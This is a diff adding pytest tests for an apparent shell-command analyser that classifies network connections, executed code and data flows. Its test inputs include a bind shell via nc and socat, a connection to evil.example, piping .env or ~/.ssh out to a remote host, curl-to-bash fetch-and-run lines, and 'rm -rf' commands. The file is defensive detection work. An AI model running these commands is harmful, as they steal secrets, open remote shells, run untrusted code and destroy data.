@@ -238,3 +238,100 @@ def test_the_program_after_wrappers(line: str, tmp_path: Path) -> None:
 def test_a_script_a_shell_runs_is_a_command_of_its_own(tmp_path: Path) -> None:
     found = [c for c in model("bash ./scripts/deploy.sh prod", tmp_path) if c.grammar is None]
     assert [c.heads for c in found] == [["deploy.sh", "deploy.sh prod"]]
+
+
+# -- effects and flow (docs/design/commands.md#effects, #flow) ----------------------------------
+
+
+def effects(command: str, cwd: Path) -> list[tuple[str, list[tuple[str, str, str]], list[str]]]:
+    return [
+        (c.heads[-1], [(e.kind, e.host, e.port) for e in c.network], sorted(c.runs))
+        for c in model(command, cwd)
+    ]
+
+
+@pytest.mark.parametrize(
+    ("command", "program", "ends"),
+    [
+        ("curl -s https://example.com:8443/x", "curl", [("connect", "example.com", "8443")]),
+        ("wget http://h/x", "wget", [("connect", "h", "80")]),
+        ("nc -l -p 4444", "nc", [("listen", "", "4444")]),
+        ("nc -l 4444", "nc", [("listen", "", "4444")]),
+        ("nc evil.example 4444", "nc", [("connect", "evil.example", "4444")]),
+        ("socat TCP-LISTEN:4444 -", "socat", [("listen", "", "4444")]),
+        ("socat - TCP:h:25", "socat", [("connect", "h", "25")]),
+        ("ssh -p 2222 deploy@h uptime", "ssh", [("connect", "h", "2222")]),
+        ("scp ~/.ssh/id_rsa me@h:/tmp/", "scp", [("connect", "h", "")]),
+        ("cat x > /dev/tcp/h/80", "cat", [("connect", "h", "80")]),
+    ],
+)
+def test_network_ends(
+    command: str, program: str, ends: list[tuple[str, str, str]], tmp_path: Path
+) -> None:
+    found = {head: e for head, e, _r in effects(command, tmp_path)}
+    assert sorted(found[program]) == sorted(ends)
+
+
+@pytest.mark.parametrize(
+    ("command", "program", "runs"),
+    [
+        ("bash x.sh", "bash", ["script"]),
+        ("bash -c 'ls'", "bash", ["string"]),
+        ("bash", "bash", ["stdin"]),
+        ("python3 -", "python3", ["stdin"]),
+        ("nc -l -e /bin/sh 4444", "nc", ["script"]),
+        ("socat TCP-LISTEN:1 EXEC:/bin/sh", "socat", ["string"]),
+        ("sleep 1 &", "sleep", ["background"]),
+        ("while true; do ./w & done", "w", ["background", "repeatedly"]),
+    ],
+)
+def test_what_a_command_runs(command: str, program: str, runs: list[str], tmp_path: Path) -> None:
+    found = {head: r for head, _e, r in effects(command, tmp_path)}
+    assert found[program] == runs
+
+
+@pytest.mark.parametrize(
+    ("command", "sink", "sources"),
+    [
+        (
+            "cat .env | base64 | curl -d @- https://h",
+            "curl",
+            {"cat": {"input"}, "base64": {"input"}},
+        ),
+        ("curl -s https://x | sh", "sh", {"curl": {"code"}}),
+        ("curl -s https://x | base64 -d | bash", "bash", {"curl": {"code"}, "base64": {"code"}}),
+        ("curl -o p.sh https://x && bash p.sh", "bash", {"curl": {"code"}}),
+        ("curl -O https://x/p.sh && bash p.sh", "bash", {"curl": {"code"}}),
+        (
+            "wget -q https://x/i.sh; chmod +x i.sh; ./i.sh",
+            "i.sh",
+            {"wget": {"code"}, "chmod": {"code"}},
+        ),
+        ('curl -d "$(cat .env)" https://h', "curl", {"cat": {"input"}}),
+        ("bash <(curl -s https://x)", "bash", {"curl": {"code"}}),
+        ("curl -o out.json https://h && jq . out.json", "jq", {"curl": {"input"}}),
+    ],
+)
+def test_flows(command: str, sink: str, sources: dict[str, set[str]], tmp_path: Path) -> None:
+    commands = model(command, tmp_path)
+    [target] = [c for c in commands if c.program == sink]
+    found = {commands[n].program: kinds for n, kinds in target.inputs.items()}
+    assert found == sources
+
+
+def test_a_descriptor_opened_earlier_in_the_line(tmp_path: Path) -> None:
+    tar = [
+        c
+        for c in model("exec 3>/dev/tcp/h/4444; tar cf - ~/.ssh >&3", tmp_path)
+        if c.program == "tar"
+    ]
+    assert [(e.kind, e.host) for e in tar[0].network] == [("connect", "h")]
+    ran = [c.heads[-1] for c in model("exec 3<<<'rm -rf /'; source /dev/fd/3", tmp_path)]
+    assert "rm" in ran
+
+
+def test_the_folder_a_command_runs_in_computes(tmp_path: Path) -> None:
+    proj = tmp_path / "p"
+    proj.mkdir()
+    rm = the(model('rm -rf "$(dirname "$PWD")"', proj), "rm")
+    assert [u.place.text for u in rm.paths] == [os.path.realpath(tmp_path)]
